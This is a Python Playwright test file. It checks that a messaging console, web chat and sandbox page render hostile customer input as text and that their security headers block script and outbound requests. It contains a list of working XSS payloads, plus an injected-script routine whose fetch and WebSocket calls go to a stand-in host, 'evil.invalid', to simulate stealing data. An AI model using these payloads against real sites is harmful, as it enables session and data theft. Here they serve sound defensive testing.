"""Script in whatever a stranger writes: shown as it stands in console, chat and pocket, run in none of them."""

import asyncio
import shutil
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Page, async_playwright

from channels.messages import Address, Channel, InboundFile, InboundMessage
from channels.sandbox.app import Sandbox, SandboxSettings
from channels.wire.mail_parse import Envelope, Reading, parse_mail
from health.report import EndpointId
from router.domain.conversation import SideName

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or ""
ARGUMENTS = ["--no-sandbox", "--disable-dev-shm-usage", "--disable-background-networking"]
WAIT_MS = 15_000
EVIL = "evil.invalid"

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM, reason="no Chromium on PATH"),
    # Playwright's own event-loop objects are let go of after the test's loop closed.
    pytest.mark.filterwarnings("ignore::ResourceWarning", "ignore::pytest.PytestUnraisableExceptionWarning"),
]

PAYLOADS = [
    "<script>window.ours=1</script>",
    "<img src=x onerror=window.ours=1>",
    "<svg/onload=window.ours=1>",
    '"><img src=//evil.invalid/pixel>',
    "'onmouseover='window.ours=1' autofocus onfocus='window.ours=1",
    "javascript:window.ours=1",
    "<iframe srcdoc='<script>parent.ours=1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.ours=1&gt;'>",
    "<base href=//evil.invalid/><form action=//evil.invalid><button formaction=javascript:window.ours=1>x",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<link rel=stylesheet href=//evil.invalid/x.css><style>@import '//evil.invalid'</style>",
    "${window.ours=1}{{constructor.constructor('window.ours=1')()}}<%= 1 %>",
    "<details open ontoggle=window.ours=1>&lt;script&gt;</textarea></title></script>",
    "\u202egnp.exe\u2066 &#x3c;script&#x3e;window.ours=1&#x3c;/script&#x3e;",
]
FOREIGN = "iframe, object, embed, base, form[action], meta[http-equiv], [onerror], [onload], [onclick], [onfocus], math"
"""What none of our pages holds, and each payload would bring."""

ATTACK = """() => new Promise((done) => {
  const blocked = [];
  document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
  const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
  add("script", { textContent: "window.ours = 1" });
  add("script", { src: "https://evil.invalid/x.js" });
  add("script", { src: "data:text/javascript,window.ours=1" });
  add("img", { src: "https://evil.invalid/x.png" });
  add("iframe", { src: "https://evil.invalid/" });
  add("iframe", { srcdoc: "<script>parent.ours=1</script>" });
  add("base", { href: "https://evil.invalid/" });
  add("object", { data: "https://evil.invalid/" });
  const div = document.createElement("div");
  div.innerHTML = "<img src=x onerror='window.ours=1'><a id=bad href='javascript:window.ours=1'>x</a>";
  document.body.append(div);
  document.getElementById("bad").click();
  fetch("https://evil.invalid/steal").catch(() => blocked.push("fetch refused"));
  try { new WebSocket("wss://evil.invalid/"); } catch { blocked.push("socket refused"); }
  setTimeout(() => done({ blocked: [...new Set(blocked)], ours: window.ours ?? null, base: document.baseURI }), 600);
})"""
"""What a hole in our pages would be used for; the policy is what stands behind them."""


@dataclass
class Browser:
    """A page, and what it asked of the world."""

    page: Page
    asked: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    async def is_clean(self) -> None:
        """Nothing ran, nothing of a payload became an element, nobody else was asked for anything."""
        assert await self.page.evaluate("window.ours ?? null") is None
        assert await self.page.locator(FOREIGN).count() == 0
        assert await self.page.locator("script:not([src])").count() == 0
        assert self.asked == []
        assert self.complaints == []

    async def withstands(self) -> None:
        """Even script's own first step, an element put into the page, leads nowhere."""
        self.complaints.clear()
        found = await self.page.evaluate(ATTACK)
        assert found["ours"] is None, "inline script ran"
        assert EVIL not in found["base"]
        refused = set(found["blocked"])
        assert {"script-src-elem", "img-src", "base-uri"} <= refused, refused
        assert refused & {"frame-src", "child-src"}, refused
        assert refused & {"script-src-attr", "script-src"}, refused
        assert "connect-src" in refused, refused
        assert self.asked == [], "the policy let a request out"


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    """Chromium, which may reach nobody but us: what it tries elsewhere is noted."""
    async with async_playwright() as playwright:
        chromium = await playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        try:
            context = await chromium.new_context(viewport={"width": 1280, "height": 900})
            made = Browser(await context.new_page())

            async def elsewhere(route: Any) -> None:
                made.asked.append(route.request.url)
                await route.abort()

            await context.route(
                lambda url: "127.0.0.1" not in url and not url.startswith(("data:", "about:")), elsewhere
            )
            made.page.set_default_timeout(WAIT_MS)
            made.page.on("pageerror", lambda error: made.complaints.append(str(error)))
            made.page.on("dialog", lambda dialog: made.complaints.append(f"dialog: {dialog.message}"))
            yield made
        finally:
            await chromium.close()


def _mail(name: str, subject: str, body: str, file: str) -> bytes:
    """An HTML mail that is hostile in every part."""
    return (
        b'From: "' + name.replace('"', "").encode() + b'" <bob@example.net>\r\nSubject: ' + subject.encode() + b"\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
        b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>Words</p>" + body.encode() + b"\r\n--b\r\n"
        b"Content-Type: text/html; name*=utf-8''x\r\nContent-Disposition: attachment; filename*=utf-8''"
        + b"".join(b"%%%02X" % octet for octet in file.encode())
        + b"\r\n\r\n<script>window.ours=1</script>\r\n--b--\r\n"
    )


async def test_the_console_shows_what_strangers_wrote_and_runs_none_of_it(fortress: Any, browser: Browser) -> None:
    """Names, words, subjects, file names and HTML mail; then the policy, against what a hole would be used for."""
    base, page = fortress.url, browser.page
    talks = [
        fortress.hear(text, f"+1202555{number:04}", f"SM{number:032x}", name=PAYLOADS[-number] if number else "Ada")
        for number, text in enumerate(PAYLOADS)
    ]
    raw = _mail(PAYLOADS[1], PAYLOADS[2], "".join(PAYLOADS), PAYLOADS[0])
    event = parse_mail(raw, Envelope(1_800_000_000.0), Reading(EndpointId("email/acme"), "support@example.org"))
    assert isinstance(event, InboundMessage)
    assert event.files
    talks.append(fortress.run(fortress.runtime.switchboard.accept(event)).conversation_id)
    files = tuple(
        InboundFile(payload[:150], "text/html", b"<script>window.ours=1</script>") for payload in PAYLOADS[:9]
    )
    sender = Address(Channel.SMS, "+12025559999")
    more = InboundMessage(EndpointId("sms/twilio"), "SM" + "e" * 32, sender, "files", 1.0, files=files, sender_name="F")
    talks.append(fortress.run(fortress.runtime.switchboard.accept(more)).conversation_id)
    await page.goto(f"{base}/console/login#{fortress.keys['agent']}")
    await page.get_by_role("link", name="Ada").first.wait_for()
    await browser.is_clean()
    for talk in talks:
        await page.goto(f"{base}/console/#/conversations/{talk}")
        await page.get_by_role("log").locator("li").first.wait_for()
        await browser.is_clean()
    shown = page.get_by_role("log").locator(".files a")
    assert await shown.count() == len(files)
    for at in range(await shown.count()):
        href = await shown.nth(at).get_attribute("href") or ""
        assert href.startswith("/v1/files/")
    await page.goto(f"{base}/console/#/conversations/{talks[0]}")
    await page.get_by_role("log").get_by_text(PAYLOADS[0]).wait_for()
    await browser.withstands()


async def test_a_file_a_stranger_sent_is_handed_out_and_never_shown(fortress: Any, browser: Browser) -> None:
    """HTML and SVG with script in them: a download of no type that runs, in a sandbox, even where it is opened."""
    sender = Address(Channel.SMS, "+12025559999")
    files = (InboundFile("x.html", "text/html", b"<script>window.ours=1;fetch('/v1/me')</script>"),)
    event = InboundMessage(EndpointId("sms/twilio"), "SM" + "e" * 32, sender, "files", 1.0, files=files)
    talk = fortress.run(fortress.runtime.switchboard.accept(event)).conversation_id
    (message,) = fortress.run(fortress.runtime.switchboard.transcript(talk))
    await browser.page.goto(f"{fortress.url}/console/login#{fortress.keys['agent']}")
    await browser.page.get_by_role("heading", name="Conversations").wait_for()
    answer = await browser.page.evaluate(
        "async (at) => { const got = await fetch(at); return [got.status, Object.fromEntries(got.headers)] }",
        f"/v1/files/{message.content.files[0].sha256}?name=x.html",
    )
    status, headers = answer
    assert status == 200
    assert headers["content-type"] == "application/octet-stream"
    assert headers["content-disposition"].startswith("attachment; filename*=UTF-8''")
    assert headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in headers["content-security-policy"]
    async with browser.page.expect_download() as download:
        await browser.page.evaluate(
            "(at) => { location.href = at }", f"/v1/files/{message.content.files[0].sha256}?name=x.html"
        )
    assert (await download.value).suggested_filename == "x.html"
    await browser.is_clean()


async def test_the_chat_shows_what_was_said_and_runs_none_of_it(fortress: Any, browser: Browser) -> None:
    """The customer's own words, an agent's words and name: text, in the page; then the policy."""
    page = browser.page
    await page.goto(f"{fortress.url}/chat")
    await page.wait_for_selector(".state.on")
    for payload in PAYLOADS[:6]:
        await page.fill(".say textarea", payload)
        await page.keyboard.press("Enter")
        await page.locator(".line.mine:not(.pending) .text").get_by_text(payload, exact=True).wait_for()
    desk = fortress.runtime.switchboard
    (view,) = fortress.run(desk.conversations()).items
    for number, payload in enumerate(PAYLOADS):
        fortress.run(
            desk.send(
                view.conversation.id,
                text=payload,
                author="key:x",
                author_name=payload,
                idempotency_key=f"k{number}",
                side=SideName.CUSTOMER,
            )
        )
    fortress.run(_dispatch(fortress, len(PAYLOADS)))
    await page.locator(".line:not(.mine) .text").nth(len(PAYLOADS) - 1).wait_for()
    await browser.is_clean()
    await page.reload()
    await page.wait_for_selector(".state.on")
    await browser.is_clean()
    await browser.withstands()


async def _dispatch(fortress: Any, count: int) -> None:
    """Say what waits for the chat, as the dispatch role does."""
    from router.sender import Sender

    runtime, chat = fortress.runtime, EndpointId("chat/web")
    sender = Sender(runtime.core, chat, runtime.adapters[chat], runtime.desk, "a test", 4)
    task = asyncio.create_task(sender.run())
    async with asyncio.timeout(20):
        while sender.tally.sent < count:
            await asyncio.sleep(0.02)
    task.cancel()
    await asyncio.gather(task, return_exceptions=True)


async def test_the_pocket_shows_what_was_sent_and_runs_none_of_it(tmp_path: Path, browser: Browser) -> None:
    """Words, subjects and addresses that crossed the stand-in vendors' wires; then the policy."""
    ports = {"pocket_port": 0, "mail_port": 0, "sms_port": 0, "sms_backup_port": 0, "phone_port": 0, "lmtp_port": 0}
    sandbox = Sandbox(SandboxSettings(**ports, journal_folder=tmp_path))
    await sandbox.start()
    try:
        for payload in PAYLOADS:
            for endpoint in ("sms/sandbox", "email/sandbox"):
                sandbox.journal.add(
                    at=1.0,
                    endpoint=endpoint,
                    to_customer=True,
                    customer="+12025550100" if endpoint == "sms/sandbox" else "ada@customer.example",
                    text=payload,
                    subject=payload,
                    details={"from": payload, "reply_to": payload, "html": payload},
                )
        sandbox.journal.add(at=1.0, endpoint="sms/sandbox", to_customer=True, customer=PAYLOADS[1], text="x")
        await browser.page.goto(sandbox.pocket_url)
        await browser.page.locator(".bubble").first.wait_for()
        await browser.is_clean()
        customers = browser.page.locator("#customer option")
        for value in [await customers.nth(at).get_attribute("value") for at in range(await customers.count())]:
            await browser.page.select_option("#customer", value)
            await browser.is_clean()
        await browser.withstands()
    finally:
        await sandbox.stop()


@pytest.mark.parametrize("path", ["/console/", "/console/login", "/chat", "/docs", "/v1/me", "/nowhere", "/readyz"])
async def test_no_page_may_be_framed_or_sniffed(fortress: Any, path: str) -> None:
    """The headers stand on every answer, errors too: no inline or foreign script, no frames, no sniffing."""
    import aiohttp

    async with aiohttp.ClientSession() as http, http.get(fortress.url + path) as answer:
        policy = answer.headers["Content-Security-Policy"]
        directives = {one.split()[0]: one.split()[1:] for one in policy.split(";") if one.strip()}
        assert directives["default-src"] in (["'self'"], ["'none'"])
        assert directives["frame-ancestors"] == ["'none'"]
        assert directives["base-uri"] == ["'none'"]
        assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "data:", "https:"} & set(policy.replace(";", " ").split())
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Referrer-Policy"] == "no-referrer"
